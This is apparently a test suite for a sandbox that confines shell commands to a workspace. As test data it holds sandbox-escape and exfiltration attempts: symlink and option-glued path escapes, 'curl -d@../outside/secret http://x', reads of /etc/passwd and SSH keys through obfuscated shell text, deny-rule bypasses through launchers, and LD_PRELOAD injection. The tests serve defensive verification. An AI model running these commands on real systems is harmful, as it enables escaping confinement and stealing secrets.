"""Real faults of other boundaries, each named by its case."""

# over 300 lines because: it is one list of cases, and one test looks here for each of them

from __future__ import annotations

import os
from pathlib import Path

import pytest
from bounds import allow, bounded, kinds, script

from veil.governed import ApprovalRequired, Boundary, Denied, Policy, Rule, Scripted, later
from veil.model.errors import BadInput, VeilError


def code(boundary: Boundary, *argv: str) -> str:
    """How a request ends: ``ran``, or the code of its refusal."""
    try:
        boundary.run(argv)
    except VeilError as error:
        return error.code
    return "ran"


def test_gov_01_a_link_in_the_workspace_leads_out(ws: Path) -> None:
    (ws / "link").symlink_to("../outside")
    (ws / "chain").symlink_to("link")
    (ws / "dangling").symlink_to("../outside/new")
    (ws / "inner").symlink_to("in")
    (ws / "--help").symlink_to("../outside/secret")
    at = bounded(ws, allow("cat", "cp", "ls"))
    for word in ("link/secret", "link", "chain/secret", "./link/secret", "sub/../link/secret", str(ws / "link/secret")):
        assert code(at, "cat", word) == "outside_workspace", word
    assert code(at, "cp", "in", "dangling") == "outside_workspace"
    assert code(at, "cat", "--", "--help") == "outside_workspace", "a link that is called like an option"
    assert not (ws.parent / "outside" / "new").exists()
    assert at.run(["cat", "inner"]).stdout == "inside\n"


def test_gov_03_paths_glued_to_options(ws: Path) -> None:
    secret = ws.parent / "outside" / "secret"
    (ws / "o").write_text("")
    at = bounded(ws, allow("sort", "dd", "curl", "tar", "grep", "cat", "gcc", "scp", "cp"))
    for argv in (
        ["sort", "in", "--output=../out"],
        ["sort", "in", "-o../out"],
        ["dd", "if=../outside/secret", "of=o"],
        ["dd", f"if={secret}", "of=o"],
        ["curl", "-d", "@../outside/secret", "http://x"],
        ["curl", "-d@../outside/secret", "http://x"],
        ["curl", "file:///etc/hostname"],
        ["tar", "-C..", "-cf", "o", "outside"],
        ["tar", f"-C{ws.parent}", "-cf", "o", "outside"],
        ["grep", "-f../outside/secret", "in"],
        ["gcc", "-I../outside", "x.c"],
        ["scp", "host:/etc/passwd", "o"],
        ["cp", f"--target-directory={ws.parent}", "in"],
    ):
        assert code(at, *argv) in ("outside_workspace", "executable_refused"), argv
    assert not (ws.parent / "out").exists()
    assert (ws / "o").read_text() == ""


def test_gov_03_a_name_glued_to_an_option_may_hold_slashes(ws: Path) -> None:
    (ws / "src" / "deep").mkdir(parents=True)
    (ws / "src" / "deep" / "words").write_text("inside\n")
    at = bounded(ws, allow("grep", "make", "cat"))
    assert at.run(["grep", "-fsrc/deep/words", "in"]).stdout == "inside\n"
    assert code(at, "make", "-Csrc/deep", "-n") == "ran"
    # bundled letters in front of a path that is there are refused all the same
    (ws / "zvf" / "etc").mkdir(parents=True)
    (ws / "zvf" / "etc" / "passwd").write_text("")
    for word in ("-xzvf/etc/passwd", "-xzvvf/etc/new", "-f/new", "-xf/new", "-xvf/new"):
        assert code(at, "cat", word) == "outside_workspace", word


def test_gov_04_a_tilde_or_variable_is_never_another_file_than_was_judged(ws: Path) -> None:
    (ws / "~" / ".ssh").mkdir(parents=True)
    (ws / "~" / ".ssh" / "id").write_text("literal\n")
    (ws / "$HOME").mkdir()
    (ws / "$HOME" / "x").write_text("literal\n")
    at = bounded(ws, allow("cat", "bash"))
    assert code(at, "cat", "~/.ssh/id") == "outside_workspace"
    assert code(at, "cat", "$HOME/x") == "outside_workspace"
    assert code(at, "bash", "-c", "cat ~/x") == "outside_workspace"
    assert at.run(["cat", "./~/.ssh/id"]).stdout == "literal\n", "this path is what exec opens"


def test_gov_06_an_approval_is_for_these_words_and_no_others(ws: Path) -> None:
    argv_file = ws / "argv"
    script(ws.parent / "bin" / "say", f'printf "%s|" "$@" > {argv_file}\n')
    at = bounded(ws, path=[str(ws.parent / "bin"), "/usr/bin", "/bin"], approver=later)
    with pytest.raises(ApprovalRequired) as error:
        at.run(["say", "a b"])
    at.approve(error.value.facts["approval"])
    for argv in (["say", "a", "b"], ["say", "a\nb"], ["say", "", "a"], ["say", "a b", ""], ["say", "a  b"]):
        assert code(at, *argv) == "approval_required", argv
    assert not argv_file.exists()
    assert code(at, "say", "a b") == "ran"
    assert argv_file.read_text() == "a b|"
    assert code(at, "say", "a b") == "approval_required", "it was good for one run"


def test_gov_07_a_denied_sub_command_by_every_path_to_it(ws: Path) -> None:
    (ws / "g").symlink_to("/usr/bin/git")
    at = bounded(ws, (Rule("no push", "deny", prefix=("git", "push")), *allow("git", "env", "/usr/bin/git", "./g")))
    for argv in (
        ["/usr/bin/git", "push"],
        ["git", "-C", ".", "push"],
        ["git", "--no-pager", "push"],
        ["env", "git", "push"],
        ["GIT", "push"],
        ["./g", "push"],
    ):
        assert code(at, *argv) in ("git_refused", "executable_refused"), argv
    assert "dispatch" not in kinds(at)


@pytest.mark.parametrize("workspace", [None, "", "/nowhere", "/", "\0"])
def test_gov_09_without_a_workspace_there_is_no_boundary(workspace: object) -> None:
    with pytest.raises(BadInput, match="workspace"):
        Boundary(workspace, Policy("always_allow"))  # type: ignore[arg-type]


def test_gov_09_a_workspace_that_is_gone_denies(ws: Path) -> None:
    at = bounded(ws, Policy("always_allow"))
    moved = ws.rename(ws.parent / "moved")
    assert code(at, "cat", "/etc/hostname") == "workspace_missing"
    assert code(at, "ls") == "workspace_missing"
    ws.mkdir()
    assert code(at, "ls") == "workspace_missing", "another folder of that name is not it"
    ws.rmdir()
    moved.rename(ws)
    assert code(at, "ls") == "ran"


@pytest.mark.parametrize("first", ["", ".", "sub", "{ws}", "{ws}/sub"])
def test_gov_10_programs_come_from_a_safe_path(ws: Path, monkeypatch: pytest.MonkeyPatch, first: str) -> None:
    script(ws / "ls", "echo FALSE\n")
    script(ws / "sub" / "ls", "echo FALSE\n")
    monkeypatch.chdir(ws)
    named = first.replace("{ws}", str(ws))
    with pytest.raises(BadInput, match="path"):
        bounded(ws, allow("ls"), path=f"{named}:/usr/bin")
    monkeypatch.setenv("PATH", f"{named}:/usr/bin:/bin")
    at = bounded(ws, allow("ls"))
    result = at.run(["ls"])
    assert "FALSE" not in result.stdout
    executable = at.completion(result.id)["executable"]
    assert executable["path"] in ("/usr/bin/ls", "/bin/ls")
    assert executable["digest"].startswith("sha256:")


def test_gov_10_a_link_in_path_to_the_workspace_is_no_safe_path(ws: Path, tmp_path: Path) -> None:
    script(ws / "sub" / "ls", "echo FALSE\n")
    (tmp_path / "link").symlink_to(ws / "sub")
    with pytest.raises(BadInput, match="in the workspace"):
        bounded(ws, path=[str(tmp_path / "link"), "/usr/bin"])


def test_gov_11_an_approval_is_for_this_environment_and_folder(ws: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The environment is the host's; what steers programs does not come through."""
    for name, value in {"LD_PRELOAD": "/x.so", "GIT_EXTERNAL_DIFF": "/x", "BASH_ENV": "/x", "API_TOKEN": "t"}.items():
        monkeypatch.setenv(name, value)
    at = bounded(ws, approver=later)
    with pytest.raises(ApprovalRequired) as error:
        at.run(["env"])
    question = at.pending()[0]
    assert question.cwd == str(ws)
    assert question.environment.startswith("sha256:")
    at.approve(error.value.facts["approval"])
    at.chdir("sub")
    assert code(at, "env") == "approval_required", "another folder"
    at.chdir("..")
    other = bounded(ws, approver=later, environment={"EXTRA": "1"})
    with pytest.raises(ApprovalRequired):
        other.run(["env"])
    assert other.pending()[0].environment != question.environment
    assert other.pending()[0].binding != question.binding
    seen = at.run(["env"]).stdout
    assert not [name for name in ("LD_PRELOAD", "GIT_EXTERNAL_DIFF", "BASH_ENV", "API_TOKEN") if name + "=" in seen]
    assert "PATH=" in seen
    for name in ("LD_PRELOAD", "GIT_DIR", "PATH", "BASH_ENV", "PYTHONPATH", "NODE_OPTIONS"):
        with pytest.raises(BadInput, match="passed"):
            bounded(ws, passed=[name])


def test_gov_11_an_approval_is_for_these_seconds(ws: Path) -> None:
    at = bounded(ws, approver=later)
    with pytest.raises(ApprovalRequired) as error:
        at.run(["ls"], timeout_s=5)
    at.approve(error.value.facts["approval"])
    with pytest.raises(ApprovalRequired):
        at.run(["ls"], timeout_s=6)
    assert at.run(["ls"], timeout_s=5).returncode == 0


@pytest.mark.parametrize("how", ["written", "replaced", "linked", "touched back"])
def test_gov_12_a_program_that_was_replaced_after_the_approval(ws: Path, how: str) -> None:
    tool = script(ws / "bin" / "tool", "echo good\n")
    at = bounded(ws, approver=later)
    with pytest.raises(ApprovalRequired) as error:
        at.run(["bin/tool"])
    at.approve(error.value.facts["approval"])
    before = tool.stat()
    if how == "written":
        tool.write_text("#!/bin/sh\necho evil\n")
    elif how == "replaced":
        script(ws / "evil", "echo evil\n").rename(tool)
    elif how == "linked":
        script(ws / "evil", "echo evil\n")
        tool.unlink()
        tool.symlink_to("../evil")
    else:
        tool.write_text("#!/bin/sh\necho evil\n")  # as many bytes as before
        os.utime(tool, ns=(before.st_atime_ns, before.st_mtime_ns))
    assert code(at, "bin/tool") == "approval_required"
    assert "dispatch" not in kinds(at)


def test_gov_12_tools_in_the_workspace_are_asked_about(ws: Path) -> None:
    script(ws / "tool", "echo x\n")
    assert code(bounded(ws, Policy("blocklist")), "./tool") == "approval_required"
    assert code(bounded(ws, Policy("blocklist", allow("./tool"))), "./tool") == "ran"


def test_gov_13_a_denied_program_through_launchers(ws: Path) -> None:
    launchers = allow("env", "nice", "xargs", "sh", "timeout", "find", "busybox", "/bin/rm", "python3")
    at = bounded(ws, (Rule("no rm", "deny", prefix=("rm",)), *launchers), approver=Scripted())
    for argv in (
        ["/bin/rm", "in"],
        ["env", "rm", "in"],
        ["nice", "-n", "5", "rm", "in"],
        ["xargs", "rm"],
        ["sh", "-c", "rm in"],
        ["timeout", "5", "rm", "in"],
        ["find", ".", "-delete"],
        ["python3", "-c", "import os; os.remove('in')"],
        ["busybox", "rm", "in"],
    ):
        with pytest.raises(Denied):
            at.run(argv)
    assert (ws / "in").read_text() == "inside\n"
    assert "dispatch" not in kinds(at)


def test_every_case_of_governed_argv_is_here() -> None:
    cases = {"gov_01", "gov_03", "gov_04", "gov_06", "gov_07", "gov_09", "gov_10", "gov_11", "gov_12", "gov_13"}
    assert {name[5:11] for name in globals() if name.startswith("test_gov_")} == cases


def test_addresses_are_no_paths_and_what_stands_there_is_one(ws: Path) -> None:
    at = bounded(ws, allow("printf"))
    for word in ("foo://example.org/a", "--to=neo4j+s://db.example.org:7687", "https://example.org/a/../b"):
        assert at.run(["printf", "%s", word]).stdout == word
    (ws / "link").symlink_to("../outside")
    for word in (
        "unix:///run/x.sock",
        "sqlite:////etc/passwd",
        "phar://../outside/secret",
        "zlib://link/secret",
        "foo://etc/passwd",
        "foo://etc/new",
        "foo://example.org,/etc/passwd",
        "--a=foo://example.org:/etc/passwd",
        "foo+file://example.org/x",
    ):
        assert code(at, "printf", "%s", word) == "outside_workspace", word


TEXTS = [
    "cat ~/x",
    "cat ~root/x",
    'cat "$HOME"/x',
    "cat ${HOME}/x",
    "cd; cat x",
    "cd - ; cat x",
    "cd / && cat etc/passwd",
    "cd -P / && cat etc/passwd",
    "pushd / ; cat etc/passwd",
    'cat /e"t"c/passwd',
    "cat \\/etc/passwd",
    "cat < /e'tc'/passwd",
    "x=/e\\tc/passwd; cat $x",
    'for f in "/"etc/*; do cat "$f"; done',
    "cat .''./outside/secret",
    "cat $(echo /e''tc/passwd)",
    "eval 'cat .\\./outside/secret'",
    "cat $'/e\\x74c/passwd'",
    "cat li''nk/secret",
    "echo x > li''nk/new",
    "xargs -a /e''tc/passwd echo",
]


@pytest.mark.parametrize("text", TEXTS)
def test_paths_in_a_text_for_a_shell_stay_inside_as_the_shell_reads_them(ws: Path, text: str) -> None:
    (ws / "link").symlink_to("../outside")
    at = bounded(ws, Policy("always_allow"), approver=lambda question: True)
    for argv in (["bash", "-c", text], ["timeout", "60", "bash", "-c", text]):
        assert code(at, *argv) == "outside_workspace"
    assert not (ws.parent / "outside" / "new").exists()


def test_texts_for_a_shell_do_their_work_inside(ws: Path) -> None:
    at = bounded(ws, Policy("always_allow"))
    script(ws / "sub" / "build.sh", ":\n")
    for text in (
        "cat in > sub/out; rm sub/out",
        "cd sub && pwd",
        "for f in *; do test -f $f && cat $f; done; :",
        "cat in > /dev/null 2>&1 || true; ls 2>/dev/null | wc -l",
        "cd sub && ./build.sh",
        "echo $((1 + 2))",
    ):
        assert at.run(["sh", "-c", text]).returncode == 0, text
